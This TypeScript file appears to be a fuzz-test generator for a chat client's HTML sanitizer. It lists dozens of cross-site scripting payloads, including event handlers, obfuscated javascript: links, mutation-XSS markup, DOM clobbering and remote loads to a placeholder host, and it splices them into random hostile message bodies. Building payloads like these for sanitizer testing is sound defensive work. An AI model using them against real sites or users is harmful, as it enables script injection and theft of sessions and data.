/** Random numbers from 0 to 1, the same ones for the same seed, so that what fails fails again. */
export function dice(seed: number): () => number {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}

/** What a script of a sender's would do first. */
const RUN = "pwned()";
/** Where a sender would have the reader's browser go. */
const AWAY = "https://away.invalid/seen";

const ATTACKS: readonly string[] = [
  // Scripts and handlers, plainly.
  `<script>${RUN}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}.png">`,
  `<img src="mxc://localhost/none" onerror="${RUN}" onload="${RUN}">`,
  `<img src="mxc://away.invalid/../../../..//${AWAY}" alt="x">`,
  `<img srcset="${AWAY}.png 1x" src="mxc://localhost/none">`,
  `<svg onload="${RUN}"><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${RUN}</script></svg>#x"></use></svg>`,
  `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  `<b onmouseover="${RUN}" onfocus="${RUN}" tabindex=1 autofocus>x</b>`,
  `<marquee onstart="${RUN}">x</marquee>`,
  `<video src="${AWAY}" onerror="${RUN}" autoplay><source src="${AWAY}"></video>`,
  `<audio src="${AWAY}" autoplay></audio><embed src="${AWAY}"><object data="${AWAY}"></object>`,
  `<iframe src="javascript:parent.${RUN}"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<input autofocus onfocus="${RUN}"><select autofocus onfocus="${RUN}"><textarea autofocus onfocus="${RUN}">`,
  `<body onload="${RUN}"><html onpageshow="${RUN}">`,
  // What loads or leads away without a script.
  `<meta http-equiv="refresh" content="0;url=${AWAY}"><base href="${AWAY}/">`,
  `<link rel="stylesheet" href="${AWAY}.css"><link rel="prefetch" href="${AWAY}"><link rel=dns-prefetch href="//away.invalid">`,
  `<style>@import "${AWAY}.css"; * { background: url(${AWAY}) }</style>`,
  `<p style="background:url(${AWAY});position:fixed;inset:0">x</p><font color="red" data-mx-bg-color="url(${AWAY})">x</font>`,
  `<table background="${AWAY}"><td background="${AWAY}">x</table>`,
  `<form action="${AWAY}"><button formaction="javascript:${RUN}">x</button><input type=image src="${AWAY}"></form>`,
  `<a ping="${AWAY}" target="_self" href="https://example.org/">x</a>`,
  // Addresses that are scripts, in disguise.
  `<a href="javascript:${RUN}">x</a>`,
  `<a href=" &#1;javascript:${RUN}">x</a>`,
  `<a href="java&#9;script&colon;${RUN}">x</a>`,
  `<a href="&#x6A;avascript&#58;${RUN}">x</a>`,
  `<a href="JaVaScRiPt:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:${RUN}">x</a><a href="blob:https://away.invalid/1">x</a><a href="//away.invalid">x</a><a href="/c/x">x</a>`,
  `<a href="https:javascript:${RUN}">x</a>`,
  // Markup that changes its meaning when it is written out and read again.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror="${RUN}">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<svg><desc><noscript><a title="</noscript><img src=x onerror=${RUN}>"></desc></svg>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${RUN} src>">`,
  `<template><p title="</template><img src=x onerror=${RUN}>">`,
  `<math><annotation-xml encoding="text/html"><style><img title="</style><img src onerror=${RUN}>">`,
  `<select><style></select><svg><style><a title="</style><img src onerror=${RUN}>">`,
  `<textarea></textarea\n><img src onerror=${RUN}></textarea>`,
  `<title><a title="</title><img src onerror=${RUN}>">`,
  `<xmp><p title="</xmp><svg onload=${RUN}>">`,
  `<!--><img src onerror=${RUN}>--><!-- --!><img src onerror=${RUN}>-->`,
  `<![CDATA[<img src onerror=${RUN}>]]><?xml <img src onerror=${RUN}>?>`,
  `<mx-reply><img src=x onerror=${RUN}></mx-reply><mx-reply title="</mx-reply><img src onerror=${RUN}>">`,
  `<svg><foreignObject><p><style><!--</style><img src onerror=${RUN}>-->`,
  // Names that hide what the page itself looks up.
  `<img name="body" src="mxc://localhost/none"><form id="attributes"><input name="parentNode"><input name="childNodes"></form>`,
  `<a id="location" name="trustedTypes" href="https://example.org">x</a><form name=document><input name=createElement></form>`,
  // What is allowed, with something else inside.
  `<span data-mx-spoiler="<img src onerror=${RUN}>">hidden <img src onerror=${RUN}></span>`,
  `<code class="language-x&quot; onclick=${RUN}">x</code><code class="language-<img>">x</code>`,
  `<ol start="1&quot; onclick=${RUN}"><li value="x" onclick=${RUN}>x</ol>`,
  `<h1 id="main" class="fixed inset-0 z-50" role="dialog" aria-label="x">x</h1>`,
  `<div hidden contenteditable popover id=p><button popovertarget=p commandfor=p command=show-popover>x</button></div>`,
  `<custom-element is="x-y" onconnected="${RUN}"><slot name=x></slot></custom-element>`,
];

const TAGS = [
  "a", "b", "i", "p", "div", "span", "code", "pre", "ul", "ol", "li", "table", "tr", "td", "th", "caption", "blockquote", "details", "summary", "h1", "h6", "hr", "br", "img", "del", "sub", "font", "strike",
  "svg", "math", "mtext", "mglyph", "mi", "annotation-xml", "foreignObject", "desc", "title", "style", "script", "template", "noscript", "iframe", "textarea", "select", "option", "form", "input", "button", "object", "mx-reply", "x-y", "plaintext", "xmp", "frameset", "body",
];
const ATTRIBUTES = [
  `onerror="${RUN}"`, `onload=${RUN}`, `ONCLICK='${RUN}'`, `href="javascript:${RUN}"`, `href="https://example.org/"`, `xlink:href="javascript:${RUN}"`, `src="${AWAY}"`, `src="mxc://localhost/none"`, `style="background:url(${AWAY})"`,
  `title="--></style></title><img src onerror=${RUN}>"`, `class="language-js fixed"`, `id=root`, `name=body`, "data-mx-spoiler", `data-mx-emoticon`, `start=3`, `start="9e99"`, `srcdoc="<script>${RUN}</script>"`, `formaction="javascript:${RUN}"`, `is=x-y`, `encoding="text/html"`, `/`, `"`, `=`, `xmlns="http://www.w3.org/1999/xhtml"`,
];
const BETWEEN = ["words", "<", ">", "&lt;", "&amp;lt;img src onerror=pwned()&amp;gt;", "<!--", "-->", "]]>", "\u0001", "\u2028", "\uFEFF", "</", "<?", "<!doctype html>", "\u202E", "&#0;", "&notit;", "<!-- x", "'", '"', "`"];

/** One hostile body: attacks, torn and nested, and heaps of tags that do not belong together. */
export function nastyBody(random: () => number): string {
  const one = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)] as T;
  const tag = () => `<${one(TAGS)}${Array.from({ length: Math.floor(random() * 4) }, () => ` ${one(ATTRIBUTES)}`).join("")}${random() < 0.1 ? "/" : ""}>`;
  const piece = (): string => {
    const kind = random();
    if (kind < 0.3) return one(ATTACKS);
    if (kind < 0.65) return tag();
    if (kind < 0.8) return `</${one(TAGS)}>`;
    if (kind < 0.9) return one(BETWEEN);
    const whole = one(ATTACKS);
    return whole.slice(Math.floor(random() * whole.length), Math.floor(random() * whole.length) + 8);
  };
  return Array.from({ length: 1 + Math.floor(random() * 14) }, piece).join("");
}

/** Each attack by itself, then as many mixtures as are wanted. */
export function nastyBodies(count: number, seed: number): string[] {
  const random = dice(seed);
  return [...ATTACKS, ...Array.from({ length: Math.max(0, count - ATTACKS.length) }, () => nastyBody(random))];
}
